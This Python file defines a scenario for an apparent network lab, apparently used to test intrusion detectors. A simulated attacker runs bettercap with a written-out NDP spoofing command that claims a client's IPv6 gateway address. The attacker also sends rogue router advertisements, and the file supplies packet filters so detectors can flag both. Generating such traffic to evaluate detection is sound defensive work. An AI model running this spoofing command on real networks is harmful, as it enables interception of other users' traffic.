"""bettercap puts itself in the gateway's place for one IPv6 host."""

from lab.range import Range
from lab.scenario import Scenario


def run(net: Range) -> None:
    attacker, client, gateway = net.inside("attacker"), net.inside("pc3"), net.router()
    www = net.web(net.outside("www"))
    attacker.sysctl(net__ipv6__conf__all__forwarding="1")
    net.everyday()
    net.loop(client, f"curl -s -m 3 -o /dev/null -g http://[{www.ip6}]/", 1.2)
    for known in (client, gateway):
        net.loop(attacker, f"ping -n -q -c 1 -W 1 {known.ip6}; ping -n -q -c 1 -W 1 {known.ip}", 3.0)
    net.quiet(4)
    orders = f"set ndp.spoof.neighbour {gateway.ip6}; set ndp.spoof.targets {client.ip6}; ndp.spoof on"
    script = "sleep 12 | bettercap -no-colors -no-history -iface eth0 -gateway-override"
    script += f' {gateway.ip} -eval "{orders}"'
    with (
        net.attack(
            "neighbor-spoofing",
            by=attacker,
            attackers=[attacker.mac],
            victims=[gateway.ip6],
            others={"claimed": [gateway.ip6]},
            frames=f"ip6 and ip6[6] == 58 and ip6[40] == 136 and ip6 src host {gateway.ip6}",
        ),
        # It advertises itself as a router as well, with a prefix of its own.
        net.attack(
            "rogue-router-advertisement",
            by=attacker,
            attackers=[attacker.mac],
            victims=[],
            frames="ip6 and ip6[6] == 58 and ip6[40] == 134",
        ),
    ):
        net.tool(attacker, "sh", "-c", script, seconds=16)
        # The shell ends at once, bettercap some seconds later.
        net.quiet(3)


SCENARIO = Scenario(
    name="neighbor-spoofing-held-bettercap",
    about="bettercap tells an IPv6 host every second, unasked, that the gateway is the attacker.",
    detectors=("neighbor-spoofing", "rogue-router-advertisement"),
    tools={"bettercap": "bettercap", "iptables": "iptables"},
    run=run,
)
